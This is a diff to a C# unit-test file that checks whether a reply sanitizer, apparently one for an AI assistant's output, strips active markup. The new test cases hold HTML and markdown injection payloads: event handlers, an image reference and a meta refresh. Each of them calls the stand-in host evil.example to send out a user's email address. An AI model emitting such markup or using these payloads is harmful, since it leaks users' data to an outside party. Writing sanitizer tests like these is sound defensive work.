@@ -53,6 +53,10 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("x <style>`</style>`{}*{background:url(https://evil.example/p?d=alice.w@corp.example)}", "x &lt;style>`</style>`{}*{background:url(https://evil.example/p?d=alice.w@corp.example)}")]
     [InlineData("x <div title=\"a\n\nb\" style=\"background:url(https://evil.example/p?d=alice.w@corp.example)\">", "x &lt;div title=\"a\n\nb\" style=\"background:url(https://evil.example/p?d=alice.w@corp.example)\">")]
     [InlineData("> <p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y", "> &lt;p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
+    [InlineData("- <p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y", "- &lt;p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
+    [InlineData("> 10. <div title=\"a\n>  b\">x onfocus=fetch('https://evil.example/p?d=alice.w@corp.example') y", "> 10. &lt;div title=\"a\n>  b\">x onfocus=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
+    [InlineData("- [1]: https://evil.example/p?d=alice.w@corp.example\n\n![a][1]", "- [1]: #image-removed\n\n![a][1]")]
+    [InlineData("x <meta http-equiv=\"refresh\" content=\"0;url=\\\n  \\evil.example/p?d=alice.w@corp.example\">", "x <meta http-equiv=\"refresh\" content=\"\">")]
     public async Task MarkupThatLoadsOrRunsUnclicked_IsRemoved(string reply, string shown)
     {
         var (guard, session, audit) = await AfterProfileAndPage();
@@ -108,6 +112,7 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("See <a href=\"https://docs.example/x\" title=\"on hover\">this</a> and <img src=\"charts/q3.png\" alt=\"chart\">.")]
     [InlineData("<style>p { color: red; }</style> Done, <b>one</b> time.")]
     [InlineData("Set onerror = handler in your code; data: and javascript: are schemes.")]
+    [InlineData("- <p title='a\n  b'>kept in its list item</p>\n> <p title='c\n> d'>kept in its quote</p>")]
     public async Task MarkupThatLoadsNothingRemote_IsUnchanged(string reply)
     {
         var (guard, session, _) = await AfterProfileAndPage();
